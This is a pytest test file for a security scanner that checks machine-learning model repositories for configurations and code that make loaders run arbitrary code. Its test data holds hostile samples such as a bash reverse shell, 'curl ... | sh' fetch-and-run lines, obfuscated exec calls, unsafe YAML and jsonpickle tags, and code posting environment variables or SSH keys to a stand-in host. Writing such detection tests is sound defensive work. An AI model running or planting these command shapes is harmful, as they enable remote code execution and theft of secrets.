"""What a repository tells a loader to run is found in its configurations and in its code."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.measure.inspection.conftest import BY_ID, opened, put
from tests.strategies import json_values, mutated

from basanite.domain.answer import Answer
from basanite.domain.outcome import Outcome

Ask = Callable[..., Answer]
CHECK = "repository-code"
STABLE = "stable_diffusion"

CLEAN_JSON: dict[str, tuple[str, Any]] = {
    "a model of the library": (
        "config.json",
        {"model_type": "bert", "architectures": ["BertModel"], "_name_or_path": "google/bert"},
    ),
    "a pipeline of the library": (
        "model_index.json",
        {
            "_class_name": "StableDiffusionPipeline",
            "unet": ["diffusers", "UNet2DConditionModel"],
            "text_encoder": ["transformers", "CLIPTextModel"],
            "safety_checker": [STABLE, "StableDiffusionSafetyChecker"],
            "feature_extractor": [None, None],
        },
    ),
    "steps of the library": (
        "modules.json",
        [{"idx": 0, "path": "", "type": "sentence_transformers.models.Transformer"}],
    ),
    "an adapter": (
        "adapter_config.json",
        {
            "peft_type": "LORA",
            "auto_mapping": {"parent_library": "transformers.models.bert.modeling_bert"},
            "megatron_core": "megatron.core",
        },
    ),
    "an attention of the library": ("config.json", {"_attn_implementation": "flash_attention_2"}),
    "training by Hydra": (
        "hydra.json",
        {
            "optimizer": {"_target_": "torch.optim.AdamW", "lr": 0.1},
            "data": {"_target_": "torch.utils.data.DataLoader"},
            "path": {"_target_": "pathlib.Path"},
            "join": {"_target_": "os.path.join"},
            "own": {"_target_": "company.models.Net"},
        },
    ),
    "logging": ("log.json", {"handlers": {"a": {"()": "logging.StreamHandler"}}}),
    "logging of a server": ("log.json", {"a": {"()": "uvicorn.logging.DefaultFormatter"}}),
    "a plain object": ("x.json", {"py/object": "datetime.date", "target": "os.system"}),
    "a built-in handler": ("MANIFEST.json", {"model": {"handler": "image_classifier"}}),
}
TOLD_JSON: dict[str, tuple[str, Any, str, Outcome]] = {
    "code of its own": (
        "config.json",
        {"auto_map": {"AutoModel": "modeling_x.XModel"}},
        "own-code",
        Outcome.UNDECIDED,
    ),
    "a tokenizer of its own": (
        "tokenizer_config.json",
        {"auto_map": {"AutoTokenizer": ["tokenization_x.X", None]}},
        "own-code",
        Outcome.UNDECIDED,
    ),
    "code of another repository": (
        "config.json",
        {"auto_map": {"AutoModel": "some/repo--modeling_x.XModel"}},
        "foreign-code",
        Outcome.FAILED,
    ),
    "a pipeline of another repository": (
        "config.json",
        {"custom_pipelines": {"classify": {"impl": "some/repo--pipe.Pipe"}}},
        "foreign-code",
        Outcome.FAILED,
    ),
    "a kernel of another repository": (
        "config.json",
        {"text_config": {"attn_implementation": "some/kernel"}},
        "foreign-code",
        Outcome.FAILED,
    ),
    "trust": ("config.json", {"trust_remote_code": True}, "trust", Outcome.FAILED),
    "a component of its own": (
        "model_index.json",
        {"unet": ["my_unet", "MyUNet"]},
        "own-code",
        Outcome.UNDECIDED,
    ),
    "a component of the system": (
        "model_index.json",
        {"unet": ["os", "system"]},
        "closed-name",
        Outcome.FAILED,
    ),
    "a step of its own": (
        "modules.json",
        [{"type": "custom_st.Transformer", "path": ""}],
        "own-code",
        Outcome.UNDECIDED,
    ),
    "a step from elsewhere": (
        "modules.json",
        [{"type": "sentence_transformers.models.Pooling", "path": "../../other"}],
        "outside-path",
        Outcome.FAILED,
    ),
    "an adapter of the system": (
        "adapter_config.json",
        {"auto_mapping": {"parent_library": "subprocess"}},
        "closed-name",
        Outcome.FAILED,
    ),
    "an adapter of the unknown": (
        "adapter_config.json",
        {"auto_mapping": {"parent_library": "company.models"}},
        "unknown-name",
        Outcome.UNDECIDED,
    ),
    "a maker's machine": (
        "config.json",
        {"_name_or_path": "/home/someone/model"},
        "elsewhere",
        Outcome.PASSED,
    ),
    "a target of the system": (
        "anything.json",
        {"a": [{"_target_": "os.system", "command": "true"}]},
        "closed-name",
        Outcome.FAILED,
    ),
    "a target that hides": (
        "anything.json",
        {"target": "torch.utils.data.os.system", "params": {}},
        "closed-name",
        Outcome.FAILED,
    ),
    "a target that loads": (
        "anything.json",
        {"_target_": "torch.load"},
        "closed-name",
        Outcome.FAILED,
    ),
    "a built-in that evaluates": (
        "anything.json",
        {"class_path": "builtins.eval"},
        "closed-name",
        Outcome.FAILED,
    ),
    "jsonpickle": (
        "anything.json",
        {"py/reduce": [{"py/type": "subprocess.Popen"}, {"py/tuple": ["true"]}]},
        "closed-name",
        Outcome.FAILED,
    ),
    "a repr of jsonpickle": ("anything.json", {"py/repr": "1/1"}, "expression", Outcome.FAILED),
    "a handler": (
        "MANIFEST.json",
        {"model": {"handler": "h.py:run"}},
        "own-code",
        Outcome.UNDECIDED,
    ),
    "a handler in C++": (
        "MANIFEST.json",
        {"model": {"handler": "libnet:Net"}},
        "own-code",
        Outcome.UNDECIDED,
    ),
    "a handler from elsewhere": (
        "MANIFEST.json",
        {"model": {"handler": "../../h.py"}},
        "outside-path",
        Outcome.FAILED,
    ),
}


@pytest.mark.parametrize(("name", "document"), CLEAN_JSON.values(), ids=CLEAN_JSON.keys())
def test_configurations_of_the_libraries_pass(ask: Ask, name: str, document: Any) -> None:
    answer = ask(CHECK, json.dumps(document), name)

    assert answer.outcome is Outcome.PASSED, answer.findings
    assert not answer.findings


@pytest.mark.parametrize(
    ("name", "document", "rule", "outcome"), TOLD_JSON.values(), ids=TOLD_JSON.keys()
)
def test_what_a_configuration_tells_is_said(
    ask: Ask, name: str, document: Any, rule: str, outcome: Outcome
) -> None:
    answer = ask(CHECK, json.dumps(document), name)

    assert answer.outcome is outcome, answer.findings
    assert answer.findings[0].rule.id == f"repository-code/{rule}"


def test_escapes_hide_nothing_in_json(ask: Ask) -> None:
    padding = json.dumps({"x": "y" * (5 << 20)})[:-1]
    document = padding + ', "\\u0061uto_map": {"AutoModel": "a/b--c.D"}}'

    assert ask(CHECK, document, "config.json").outcome is Outcome.FAILED


def test_a_configuration_that_cannot_be_read_is_incomplete(ask: Ask) -> None:
    assert ask(CHECK, "{", "config.json").outcome is Outcome.INCOMPLETE
    assert ask(CHECK, "{", "other.json").outcome is Outcome.NOT_APPLICABLE
    assert ask(CHECK, '{"_target_": ', "other.json").outcome is Outcome.INCOMPLETE


MLMODEL = """
flavors:
  python_function:
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: LOADER
    model_path: model.pkl
  sklearn:
    code: CODE
    pickled_model: model.pkl
saved_input_example_info: {artifact_path: input_example.json}
signature:
  inputs: '[{"type": "double", "name": "flow"}]'
"""
YOLO = """
nc: 80
activation: nn.SiLU()
backbone:
  - [-1, 1, Conv, [64, 3, 2]]
  - [-1, 1, nn.Upsample, [None, 2, "nearest"]]
head:
  - [[-1, 6], 1, Concat, [1]]
  - [-1, 1, LAYER, [nc, anchors]]
"""
YAML = [
    ("MLmodel", MLMODEL.replace("LOADER", "mlflow.sklearn").replace("CODE", "null"), None),
    ("MLmodel", MLMODEL.replace("LOADER", "os").replace("CODE", "null"), "closed-name"),
    ("MLmodel", MLMODEL.replace("LOADER", "company").replace("CODE", "null"), "own-code"),
    ("MLmodel", MLMODEL.replace("LOADER", "mlflow.sklearn").replace("CODE", "code"), "own-code"),
    ("MLmodel", MLMODEL.replace("LOADER", "mlflow.x").replace("CODE", "../up"), "outside-path"),
    ("conda.yaml", "dependencies: [python=3.11, pip, {pip: [mlflow==3.1]}]", None),
    ("conda.yaml", "dependencies: [{pip: ['http://a.example/b.whl']}]", "foreign-package"),
    ("yolo.yaml", YOLO.replace("LAYER", "Detect"), None),
    ("yolo.yaml", YOLO.replace("LAYER", "nn.Identity()"), None),
    ("yolo.yaml", YOLO.replace("LAYER", '\'__import__("os").system("true")\''), "expression"),
    ("yolo.yaml", YOLO.replace("LAYER", "'exec(\"1\")'"), "expression"),
    ("hparams.yaml", "a: !!python/object/apply:os.system ['true']", "closed-name"),
    (
        "hparams.yaml",
        "%TAG !x! tag:yaml.org,2002:python/\n---\na: !x!name:os.system ''",
        "closed-name",
    ),
    ("hparams.yaml", "a: !<tag:yaml.org,2002:pyth%6fn/module:os> ''", "closed-name"),
    ("hparams.yaml", "a: !!python/object:company.Thing {}", "unknown-name"),
    ("hparams.yaml", "a: !!python/tuple [1, 2]\nb: !!python/object:argparse.Namespace {}", None),
    ("hparams.yaml", "a: !!javax.script.ScriptEngineManager []", "closed-name"),
    ("brain.yaml", "a: !new:speechbrain.nnet.CNN\n  x: 1\nb: !apply:random.seed [1]", None),
    ("brain.yaml", "a: !apply:os.system [true]", "closed-name"),
    ("hydra.yaml", "a: {_target_: os.system, x: 1}", "closed-name"),
    ("hydra.yaml", 'a: {"_t\\x61rget_": os.system}', "closed-name"),
    ("many.yaml", "a: 1\n---\nb: {_target_: os.system}", "closed-name"),
    ("aliases.yaml", "a: &x {_target_: torch.optim.Adam}\nb: [*x, *x]", None),
    ("loop.yaml", "a: &x [*x, {_target_: os.system}]", "closed-name"),
    ("cloud.yaml", "a: !Ref Thing\nb: !GetAtt [x, y]", None),
]


@pytest.mark.parametrize(("name", "text", "rule"), YAML)
def test_yaml_is_read_as_loaders_that_build_objects_would(
    ask: Ask, name: str, text: str, rule: str | None
) -> None:
    answer = ask(CHECK, text, name)

    said = [each.rule.id.removeprefix("repository-code/") for each in answer.findings]
    assert said[:1] == ([rule] if rule else []), answer


@pytest.mark.parametrize(
    ("name", "text", "rule"),
    [
        ("config.pbtxt", 'name: "m"\nbackend: "onnxruntime"', None),
        ("config.pbtxt", 'backend: "python"', "own-code"),
        ("config.pbtxt", '# backend: "python"', None),
        ("config.pbtxt", 'default_model_filename: "../../other.onnx"', "outside-path"),
        (
            "config.pbtxt",
            'parameters: {key: "EXECUTION_ENV_PATH", value: {string_value: "/opt/env.tar.gz"}}',
            "outside-path",
        ),
        ("pickle_module_info.txt", "mlflow.pytorch.pickle_module", None),
        ("pickle_module_info.txt", "os", "closed-name"),
    ],
)
def test_servers_are_told_too(ask: Ask, name: str, text: str, rule: str | None) -> None:
    answer = ask(CHECK, text, name)

    assert [each.rule.id for each in answer.findings] == (
        [f"repository-code/{rule}"] if rule else []
    )


POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "7" * 64 + "\nsize 123456\n"


@pytest.mark.parametrize("name", ["model.safetensors", "pytorch_model.bin", "m.pt", "m.onnx"])
def test_a_pointer_to_weights_is_said_to_be_one(ask: Ask, name: str) -> None:
    answer = ask(CHECK, POINTER, name)

    assert answer.outcome is Outcome.INCOMPLETE
    assert "pointer of Git LFS to 123456 bytes" in answer.reason


ANYWHERE = [
    ("import base64\nexec(base64.b64decode(b'MQ=='))", "encoded-code"),
    ("from base64 import b64decode as d\nx = d('MQ==').decode()\neval(x)", "encoded-code"),
    ("import zlib, marshal\nexec(marshal.loads(zlib.decompress(b)))", "encoded-code"),
    ("import codecs\nexec(codecs.decode('cevag', 'rot13'))", "encoded-code"),
    ("import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d('MQ=='))", "encoded-code"),
    ("exec(''.join(chr(x) for x in [49]))", "encoded-code"),
    ("import base64, os\nos.system(base64.b64decode('dHJ1ZQ==').decode())", "encoded-code"),
    ("getattr(__import__('o' + 's'), 'sys' + 'tem')('true')", "encoded-code"),
    ("import os\ngetattr(os, 'metsys'[::-1])('true')", "encoded-code"),
    ("import os\nvars(os)['system']('true')", None),
    ("globals()['__builtins__']['exec']('1')", "encoded-code"),
    ("import requests\nexec(requests.get('http://a.example').text)", "fetched-code"),
    ("from urllib.request import urlopen\nx = urlopen(u).read()\nexec(x)", "fetched-code"),
    ("import os\nos.system('curl http://a.example/x | sh')", "hidden-command"),
    (
        "import subprocess as s\ns.run(['bash', '-c', 'wget -qO- http://a/x | bash'])",
        "hidden-command",
    ),
    ("import os\nos.popen('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')", "hidden-command"),
    (
        "import socket, os\ns = socket.socket()\ns.connect(a)\nos.dup2(s.fileno(), 0)",
        "hidden-command",
    ),
    ("import os, requests\nrequests.post(u, json=dict(os.environ))", "secrets-sent"),
    ("import os, requests\ne = dict(os.environ)\nx = str(e)\nrequests.post(u, x)", "secrets-sent"),
    ("import httpx\nk = open('/home/a/.ssh/id_rsa').read()\nhttpx.post(u, data=k)", "secrets-sent"),
]
ORDINARY = [
    "import base64\nimage = base64.b64decode(text)",
    "import base64, zlib\nexec('1')\nx = zlib.decompress(base64.b64decode(y))",
    "import os, requests\nrequests.get(u, headers={'Authorization': os.environ['TOKEN']})",
    "import os, subprocess\nsubprocess.run(['true'], env={**os.environ, 'A': 'b'})",
    "import os\nos.system('curl -sS http://a.example/x | python -m json.tool')",
    "import requests\nx = requests.get(u).json()",
    "model.eval()\ndf.eval('a + b')",
    "x = getattr(config, 'act' + '_fn')(y)",
    "'''os.system(\"curl x | sh\")'''",
]


@pytest.mark.parametrize(("text", "rule"), ANYWHERE)
def test_hostile_shapes_are_found_in_any_source(ask: Ask, text: str, rule: str | None) -> None:
    answer = ask(CHECK, text, "tool.py")

    assert [each.rule.id for each in answer.findings][:1] == (
        [f"repository-code/{rule}"] if rule else []
    )


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_source_is_left_alone(ask: Ask, text: str) -> None:
    assert ask(CHECK, text, "tool.py").outcome is Outcome.PASSED


MODEL = """
import math
import os
from typing import Optional
import torch
import torch.nn as nn
from transformers import PreTrainedModel
try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None
if os.environ.get("FAST"):
    torch.set_float32_matmul_precision("high")
def helper():
    BODY
class Net(PreTrainedModel):
    act = nn.GELU()
    def __init__(self, config):
        super().__init__(config)
        self.layer = nn.Linear(config.size, config.size)
        MADE
    def forward(self, x):
        CALLED
        return self.layer(x)
    def export(self, path):
        OTHER
if __name__ == "__main__":
    PROGRAM
"""
LOADING = [
    ({}, None),
    ({"OTHER": "os.system('true')"}, None),
    ({"BODY": "os.system('true')"}, None),
    ({"PROGRAM": "os.system('true')"}, None),
    ({"BODY": "os.system('true')", "MADE": "helper()"}, Outcome.FAILED),
    ({"MADE": "os.system('true')"}, Outcome.FAILED),
    (
        {"MADE": "self.export('x')", "OTHER": "import subprocess; subprocess.run('x')"},
        Outcome.FAILED,
    ),
    ({"CALLED": "import socket; socket.create_connection(('a.example', 1))"}, Outcome.FAILED),
    ({"CALLED": "exec(x.text)"}, Outcome.FAILED),
    ({"MADE": "import ctypes; ctypes.CDLL('./x.so')"}, Outcome.FAILED),
    ({"MADE": "self.act = eval(config.act)"}, Outcome.UNDECIDED),
    ({"import math": "import subprocess; subprocess.Popen(['true'])"}, Outcome.FAILED),
    ({"import math": "import requests; requests.get('http://a.example')"}, Outcome.FAILED),
    ({"import math": "open('/home/a/.bashrc', 'a').write('true')"}, Outcome.FAILED),
    ({"import math": "x = lambda: __import__('os').system('true')"}, None),
    ({"import math": "def f(x=__import__('os').system('true')): pass"}, Outcome.FAILED),
]


@pytest.mark.parametrize(("changes", "outcome"), LOADING)
def test_code_of_a_model_only_builds_it(
    ask: Ask, changes: dict[str, str], outcome: Outcome | None
) -> None:
    text = MODEL
    for place in ("BODY", "MADE", "CALLED", "OTHER", "PROGRAM", "import math"):
        text = text.replace(place, changes.get(place, "pass"))

    assert ask(CHECK, text, "modeling_net.py").outcome is (outcome or Outcome.PASSED)


def test_a_handler_may_fetch_what_its_clients_ask_for(ask: Ask) -> None:
    text = (
        "import requests\nclass EndpointHandler:\n    def __init__(self, path):\n        pass\n"
        "    def __call__(self, data):\n        return requests.get(data['url']).content\n"
    )

    assert ask(CHECK, text, "handler.py").outcome is Outcome.PASSED


def test_python_that_cannot_be_read_is_incomplete(ask: Ask) -> None:
    assert ask(CHECK, "print 'x'", "modeling_x.py").outcome is Outcome.INCOMPLETE


PIECES = st.sampled_from(
    [
        "!!python/object/apply:os.system",
        "&a",
        "*a",
        "{",
        "[",
        "? ",
        "_target_: ",
        "\n",
        "---\n",
        "x",
    ]
)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(["config.json", "MLmodel", "x.yaml", "modeling_x.py", "config.pbtxt"]),
    st.binary(max_size=200)
    | mutated(MLMODEL.encode())
    | mutated(MODEL.encode())
    | json_values.map(lambda each: json.dumps({"auto_map": each, "flavors": each}).encode())
    | st.lists(PIECES, max_size=12).map(lambda each: "".join(each).encode()),
)
def test_hostile_files_give_an_answer(name: str, data: bytes) -> None:
    assert put(opened(data, name), BY_ID[CHECK], {}).outcome is not Outcome.ERROR
